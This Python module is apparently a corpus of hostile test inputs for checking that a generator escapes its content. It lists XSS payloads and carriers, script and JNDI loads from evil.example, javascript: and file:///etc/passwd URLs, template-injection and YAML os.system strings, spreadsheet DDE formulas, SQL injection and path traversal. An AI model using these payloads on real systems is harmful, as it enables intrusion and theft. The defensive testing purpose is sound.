"""What hostile strings are made of: code, elements, handlers, addresses and disguises, signs of formats."""

from collections.abc import Callable

# Every event handler that HTML, SVG and browsers know of, without the `on`.
_EVENTS = """
abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut
beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur bounce cancel canplay
canplaythrough change click close command contentvisibilityautostatechange contextlost contextmenu contextrestored
copy cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop durationchange emptied
end ended error finish focus focusin focusout formdata fullscreenchange fullscreenerror gamepadconnected gesturestart
gotpointercapture hashchange input invalid keydown keypress keyup languagechange load loadeddata loadedmetadata
loadend loadstart lostpointercapture message messageerror mousedown mouseenter mouseleave mousemove mouseout mouseover
mouseup mousewheel offline online pagehide pagereveal pageshow pageswap paste pause play playing pointercancel
pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress
propertychange ratechange readystatechange rejectionhandled repeat reset resize scroll scrollend scrollsnapchange
scrollsnapchanging search securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange
stalled start storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel
transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationend
webkitmouseforcechanged webkittransitionend wheel zoom
"""
EVENTS = _EVENTS.split()
CODE = (
    "alert(1)",
    "confirm`1`",
    "import('//evil.example')",
    "top.x=1",
    "print&#40;&#41;",
    "eval(name)",
    "a\\u006cert(1)",
)
PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>parent.x=1</script>'>",
    "<a href=javascript:alert(1)>甲</a>",
    "<b autofocus tabindex=1 onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<style>@import'//evil.example';*{color:red}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<object data=//evil.example>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=q>",
    "<h1 id=content class=fictional>不是标题</h1>",
)
ELEMENTS = (
    "a", "address", "article", "aside", "b", "blockquote", "body", "button", "caption", "code", "dd", "details",
    "dialog", "div", "dl", "fieldset", "figure", "foreignObject", "form", "frameset", "h2", "head", "html", "iframe",
    "kbd", "label", "li", "main", "marquee", "math", "nav", "noembed", "noframes", "noscript", "ol", "option", "p",
    "plaintext", "pre", "ruby", "script", "section", "select", "slot", "span", "strong", "style", "summary", "svg",
    "table", "tbody", "td", "template", "text", "textarea", "th", "title", "tr", "ul", "video", "xmp",
)  # fmt: skip
CARRIERS = (
    "{}",
    "<a href={}>",
    '<a href="{}">点这里</a>',
    "<a href='{}' download>",
    "<area href={}>",
    "<form action={}>",
    "<button formaction={}>",
    "<input type=image src={}>",
    "<iframe src={}>",
    "<object data={}>",
    "<embed src={}>",
    "<img src={}>",
    "<img srcset='{} 2x'>",
    "<video poster={}>",
    "<source srcset={}>",
    "<link rel=import href={}>",
    "<script src={}></script>",
    "<base href={}>",
    "<body background={}>",
    "<svg><a xlink:href={}>",
    "<svg><use href={}>",
    "<svg><animate attributeName=href values={}>",
    "<math href={}>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<p style='background:url({})'>",
    "[链接]({})",
    "![图]({})",
    "<{}>",
    '" href="{}',
    "' xlink:href='{}",
)
SCHEMES = (
    "javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "livescript:x", "mocha:x", "file:///etc/passwd", "blob:null/x", "filesystem:x", "feed:javascript:alert(1)",
    "view-source:javascript:1", "jar:javascript:1!/", "intent:x#Intent;end", "weixin://dl/x", "//evil.example/x",
    "\\\\evil.example\\x", "https:evil.example", "http://a:b~evil.example", "///evil.example", "/\\evil.example",
)  # fmt: skip
DISGUISES: tuple[Callable[[str], str], ...] = (
    str,
    str.upper,
    str.swapcase,
    lambda text: "".join(c.upper() if i % 2 else c for i, c in enumerate(text)),
    lambda text: f" {text}",
    lambda text: f"\n{text}",
    lambda text: text[:4] + "\n" + text[4:],
    lambda text: text[:4] + "&#9;" + text[4:],
    lambda text: text[:4] + "&Tab;" + text[4:],
    lambda text: text[:4] + "&NewLine;" + text[4:],
    lambda text: text.replace(":", "&colon;", 1),
    lambda text: text.replace(":", "&#x3A", 1),
    lambda text: text.replace(":", "：", 1),
    lambda text: f"&#{ord(text[0])};{text[1:]}",
    lambda text: f"&#x{ord(text[0]):07x}{text[1:]}",
    lambda text: f"&#1;{text}",
    lambda text: f"&#8203;{text}",
    lambda text: f"&#x202e;{text}",
    lambda text: f"%6a{text[1:]}",
    lambda text: f"\\u{ord(text[0]):04x}{text[1:]}",
    lambda text: f"\\{ord(text[0]):x} {text[1:]}",
    lambda text: text[:2] + "/**/" + text[2:],
    lambda text: text.replace("(", "&lpar;").replace(")", "&rpar;"),
)
COMMENTS = (
    "<!--{}-->", "<!--{}", "-->{}", "--!>{}", "<!-->{}", "<!--->{}", "<!{}>", "<?{}?>", "<%{}%>", "<![CDATA[{}]]>",
    "]]>{}", "<!DOCTYPE {}>", "<!--[if IE]>{}<![endif]-->", "<!ENTITY x '{}'>", "</{}>", "<//{}>", "<!-- --!>{}",
    "/*{}*/", "//{}\n",
)  # fmt: skip
NAMESPACES = (
    "<svg>{}", "<math>{}", "<svg><style>{}", "<svg><title>{}", "<svg><desc>{}", "<svg><foreignObject>{}",
    "<svg></p>{}", "<math><mtext>{}", "<math><mi><mglyph><style>{}", "<math><annotation-xml encoding=text/html>{}",
    "<svg><script>{}", "<form><math><mtext></form><form><mglyph><style></math>{}", "<svg><![CDATA[{}]]></svg>",
    "<svg:svg>{}", "<x:{}>", "<table><svg>{}", "<select><template>{}", "<noscript><p title='</noscript>{}",
    "<template shadowrootmode=open>{}",
)  # fmt: skip
QUOTES = (
    '"',
    "'",
    "`",
    "&quot;",
    "&#39;",
    "&#x27;",
    '\\"',
    "\\'",
    "%22",
    "＂",
    "”",
    '">',
    "'>",
    "`>",
    '"/>',
    "'/>",
    ">",
)
CALCULATED = (
    "{{{}}}", "{{{{{}}}}}", "{{% {} %}}", "{{# {} #}}", "${{{}}}", "#{{{}}}", "*{{{}}}", "@{{{}}}", "<%= {} %>",
    "[[{}]]", "{{{{{{{}}}}}}}", "$({})", "`{}`", "{{%- {} -%}}", "{{{{ '' | {} }}}}", "{{{}!r}}", "{{0.{}}}",
    "%({})s", "~{{{}}}",
)  # fmt: skip
EXPRESSIONS = (
    "7*7", "config", "self", "site.archive", "''.__class__.__mro__", "cycler.__init__.__globals__.os", "lipsum",
    "request", "title", "content", "n", "name", "commit", "include 'base.html'", "import os",
    "constructor.constructor('x')()", "id", "page.context", "range(9**9)", "jndi:ldap://evil.example/x",
    "github.token", "sys.inputs.qr", "x|safe", "now()",
)  # fmt: skip
SHELL_NAMES = (
    "title", "description", "content", "breadcrumbs", "as_of", "commit", "source", "source_url", "permalink", "feed",
    "permalink_text", "canonical", "twin", "alternate", "title_language", "within", "as_of_day", "newest_duty",
    "patience", "believable", "home", "areas", "compounds", "records", "about", "fictional", "fresh", "nothing",
)  # fmt: skip
SHELL_MARKS = (
    "%%{}%%",
    "%%?{}%%",
    "%%/{}%%",
    "%%?{0}%%甲%%/{0}%%",
    "%%%%{}%%%%",
    "%%/{0}%%乙%%?{0}%%",
    "%%{}%",
    "%%%{}%%",
)
FORMULA_SIGNS = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\n=",
    "　=",
    "'=",
    '"=',
    ";=",
    ",=",
    "|=",
    "==",
    "=+-",
)
FORMULAS = (
    "1+1", "cmd|'/C calc'!A0", 'HYPERLINK("//evil.example","点")', "SUM(A1:A9)", "IMPORTXML(A1,B1)", "DDE(1)", "A1",
    "0", "WEBSERVICE(A1)", "2+5+cmd|x!A0", "rundll32|x!A", "-1", "(1)", "业主", "1e9", ".5",
)  # fmt: skip
TYPESET = (
    '#read("/etc/passwd")', '#eval("1+1")', "#import sys: *", "#include notice.typ", "#{panic(1)}", "#[甲]",
    "#text(99pt)[甲]", "#sys.inputs", "$x^2$", "$ sum $", "@notice", "<notice>", "= 标题", "== 标题", "- 项", "+ 项",
    "/ 项: 甲", "*重*", "_斜_", "`码`", "```rust x```", "\\#", "\\u{202e}", "~", "---", "...", "// 注", "/* 注", "*/",
    "#show: none", "#set page(width: 1pt)", "#set text(fill: white)", "#pagebreak()", "#image(\"x\")",
    "https://typst.app", "#", "$", "#1",
)  # fmt: skip
OTHERS = (
    "a: b", "- a", "? a", "&a b", "*a", "!!python/object:os.system x", "<<: *a", "%TAG ! x", "--- x", "... x", "| x",
    "> x", "yes", "~", "null", "0o10", "1_000", "19:30", "2024-02-30", ".inf", "'", "''", '"\\x00"', "{a: b}", "[a",
    "a #b", "a : b", "::error file=x::甲", "::stop-commands::x", "::add-mask::甲", "##[error]甲", "%0A::error::x",
    "::set-output name=x::y", "END:VEVENT\nBEGIN:VEVENT", "BEGIN:VCALENDAR", "SUMMARY;X=1:甲", "\\;\\,\\n", "\\N",
    "DTSTART:x", "</summary></entry>", "'; DROP TABLE records; --", "1' OR '1'='1", 'x"; ATTACH DATABASE',
    "/**/UNION/**/SELECT", "\\x00\\x1b[31m", "\\033]0;x\\a", '" "Assets:x" ; 2024-01-01 open', "2024-01-01 * 甲",
    "plugin \"os\"", "option \"title\" \"x\"", "# 标题", "## 标题\n甲\n---", "| a | b |\n|---|---|", "![x](y)",
    "<!-- x -->", "[x]: javascript:1", "~~甲~~", "- [ ] 甲", "1. 甲", "\\\\", "\\", "\\\n\\", "../../etc/passwd",
    "..\\..\\x", "/etc/passwd", "C:\\con", "%2e%2e%2f", "a\\0b", "-rf", "--help", "$HOME", "; ls", "&& ls",
    "__proto__", "constructor", "toString", "hasOwnProperty", "__defineGetter__", "valueOf", "prototype",
    "undefined", "NaN", "<a id=gongkai>", "<form name=search-form>", "<img name=body>", "<a id=search-results>",
    "<input name=attributes>", '","x":"', "</script>{\"a\":1}", "\\u2028", "\\ud800", "\\udfff甲", '{"@context":1}',
    "]}'", "*)(uid=*", "(a+)+$", "[^", "(?", "مرحبا (1) שלום", "שלום 2024-01-01", "العربية: 12.5", "ئۇيغۇر", "བོད",
    "ᠮᠣᠩᠭᠣᠯ", "हिन्दी", "ไทย", "𠮷𡈽𠀋", "👍🏽", "🇨🇳", "①⑳㍿", "ﬁ", "İstanbul", "ß ſ K", "Ω≈ç√", "½¼", "＜script＞",
    "﹤b﹥", "‹b›", "«b»", "《b》", "「b」", "…", "“”", "‘’", "·", "　甲　",
)  # fmt: skip
